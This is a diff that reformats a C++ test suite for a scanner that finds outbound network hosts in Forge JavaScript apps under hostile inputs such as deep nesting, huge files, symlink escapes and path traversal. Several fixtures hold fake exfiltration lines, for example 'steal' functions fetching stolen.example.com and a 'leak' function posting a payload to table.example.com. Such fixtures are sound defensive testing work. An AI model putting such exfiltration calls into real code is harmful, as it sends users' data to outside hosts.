@@ -69,12 +69,14 @@ std::string repeat(const std::string& s, size_t n) {
 
 }  // namespace
 
-TEST_CASE("100,000-deep nested arrays, calls and parentheses hit the nesting limit, not the stack", "[hostile]") {
+TEST_CASE("100,000-deep nested arrays, calls and parentheses hit the nesting limit, not the stack",
+          "[hostile]") {
   const size_t n = 100000;
-  auto r = scanFiles({{"src/index.js", kFetchIndex},
-                      {"src/deep_array.js", "export const a = " + repeat("[", n) + repeat("]", n) + ";\n"},
-                      {"src/deep_call.js", "export const c = " + repeat("f(", n) + repeat(")", n) + ";\n"},
-                      {"src/deep_paren.js", "export const p = " + repeat("(", n) + "1" + repeat(")", n) + ";\n"}});
+  auto r = scanFiles(
+      {{"src/index.js", kFetchIndex},
+       {"src/deep_array.js", "export const a = " + repeat("[", n) + repeat("]", n) + ";\n"},
+       {"src/deep_call.js", "export const c = " + repeat("f(", n) + repeat(")", n) + ";\n"},
+       {"src/deep_paren.js", "export const p = " + repeat("(", n) + "1" + repeat(")", n) + ";\n"}});
   CHECK(hasDiagnostic(r, "nesting-limit", "src/deep_array.js"));
   CHECK(hasDiagnostic(r, "nesting-limit", "src/deep_call.js"));
   CHECK(hasDiagnostic(r, "nesting-limit", "src/deep_paren.js"));
@@ -82,12 +84,15 @@ TEST_CASE("100,000-deep nested arrays, calls and parentheses hit the nesting lim
   requireIncomplete(r);
 }
 
-TEST_CASE("a 20 MB single-line minified file is skipped with a notice and the verdict is incomplete", "[hostile]") {
+TEST_CASE(
+    "a 20 MB single-line minified file is skipped with a notice and the verdict is incomplete",
+    "[hostile]") {
   std::string big = "var q=0;";
   big.reserve(20u << 20);
   while (big.size() < (20u << 20)) big += "function a(b){return b+1};var c=[1,2,3].map(a);";
   big += "fetch('https://hidden.example.com/'+c);\n";
-  auto r = scanFiles({{"src/index.js", "export const handler = async () => 1;\n"}, {"src/bundle.js", big}});
+  auto r = scanFiles(
+      {{"src/index.js", "export const handler = async () => 1;\n"}, {"src/bundle.js", big}});
   CHECK(hasDiagnostic(r, "file-too-large", "src/bundle.js"));
   CHECK_FALSE(anyHost(r, "hidden.example.com"));
   requireIncomplete(r);
@@ -125,7 +130,8 @@ TEST_CASE("a binary file and an invalid UTF-8 file with .js names", "[hostile]")
   std::string invalid =
       "// caf\xe9 \xff\xfe\xc3\x28 \xed\xa0\x80 not UTF-8\n"
       "import { fetch } from '@forge/api';\n"
-      "export const handler = async () => fetch('https://utf.example.com/\xff\xfe' + '\xc0\xaf');\n";
+      "export const handler = async () => fetch('https://utf.example.com/\xff\xfe' + "
+      "'\xc0\xaf');\n";
   auto r = scanFiles({{"src/index.js", invalid}, {"src/blob.js", binary}});
   CHECK(hasDiagnostic(r, "binary-file", "src/blob.js"));
   CHECK(fe::test::hostAt(r, "src/index.js", 3) == "utf.example.com");
@@ -141,10 +147,10 @@ TEST_CASE("symlink loops are not followed", "[hostile]") {
   dir.write("manifest.yml", manifestFor());
   dir.write("src/index.js", kFetchIndex);
   fs::create_directories(dir.path() / "src/a");
-  fs::create_directory_symlink("..", dir.path() / "src/a/up");         // src/a/up -> src
-  fs::create_directory_symlink(".", dir.path() / "src/here");          // src/here -> src
-  fs::create_symlink("self.js", dir.path() / "src/self.js");           // ELOOP
-  fs::create_symlink("pong.js", dir.path() / "src/ping.js");           // ping <-> pong
+  fs::create_directory_symlink("..", dir.path() / "src/a/up");  // src/a/up -> src
+  fs::create_directory_symlink(".", dir.path() / "src/here");   // src/here -> src
+  fs::create_symlink("self.js", dir.path() / "src/self.js");    // ELOOP
+  fs::create_symlink("pong.js", dir.path() / "src/ping.js");    // ping <-> pong
   fs::create_symlink("ping.js", dir.path() / "src/pong.js");
   fe::ScanOptions options;
   options.root = dir.path().string();
@@ -158,8 +164,12 @@ TEST_CASE("symlink loops are not followed", "[hostile]") {
 
 TEST_CASE("a symlink pointing outside the scan root is never read", "[hostile]") {
   TempDir outside, dir;
-  outside.write("evil.js", "import { fetch } from '@forge/api';\nexport const steal = () => fetch('https://stolen.example.com/');\n");
-  outside.write("lib/more.js", "import { fetch } from '@forge/api';\nexport const more = () => fetch('https://stolen2.example.com/');\n");
+  outside.write("evil.js",
+                "import { fetch } from '@forge/api';\nexport const steal = () => "
+                "fetch('https://stolen.example.com/');\n");
+  outside.write("lib/more.js",
+                "import { fetch } from '@forge/api';\nexport const more = () => "
+                "fetch('https://stolen2.example.com/');\n");
   dir.write("manifest.yml", manifestFor());
   dir.write("src/index.js",
             "import { steal } from './evil';\nimport { more } from './lib/more';\n"
@@ -180,7 +190,9 @@ TEST_CASE("a symlink pointing outside the scan root is never read", "[hostile]")
 
 TEST_CASE("manifest paths with ../ cannot escape the app folder", "[hostile]") {
   TempDir root;
-  root.write("outside/evil.js", "import { fetch } from '@forge/api';\nexport const handler = () => fetch('https://stolen.example.com/');\n");
+  root.write("outside/evil.js",
+             "import { fetch } from '@forge/api';\nexport const handler = () => "
+             "fetch('https://stolen.example.com/');\n");
   std::string manifest = manifestFor();
   std::string::size_type at = manifest.find("handler: index.handler");
   REQUIRE(at != std::string::npos);
@@ -284,7 +296,8 @@ TEST_CASE("mutually recursive imports across 1,000 files", "[hostile]") {
     body += "  return d;\n}\n";
     files["src/m" + self + ".js"] = body;
   }
-  files["src/index.js"] = "import { g0 } from './m0';\nexport const handler = async (req) => g0(req.payload.n);\n";
+  files["src/index.js"] =
+      "import { g0 } from './m0';\nexport const handler = async (req) => g0(req.payload.n);\n";
   auto r = scanFiles(files);
   CHECK(fe::test::hostAt(r, "src/m500.js", 5) == "ring.example.com");
   requireComplete(r);
@@ -301,7 +314,8 @@ TEST_CASE("50,000 functions each calling all others through a table", "[hostile]
   }
   src += "leak];\n";
   for (int i = 0; i < n; ++i)
-    src += "function f" + std::to_string(i) + "(x) { for (let k = 0; k < T.length; k++) T[k](x); }\n";
+    src +=
+        "function f" + std::to_string(i) + "(x) { for (let k = 0; k < T.length; k++) T[k](x); }\n";
   src += "function leak(x) { return fetch('https://table.example.com/', { body: x }); }\n";
   src += "export const handler = async (req) => T[0](req.payload);\n";
   // A small budget keeps the test short; the default one is bounded too, only slower.
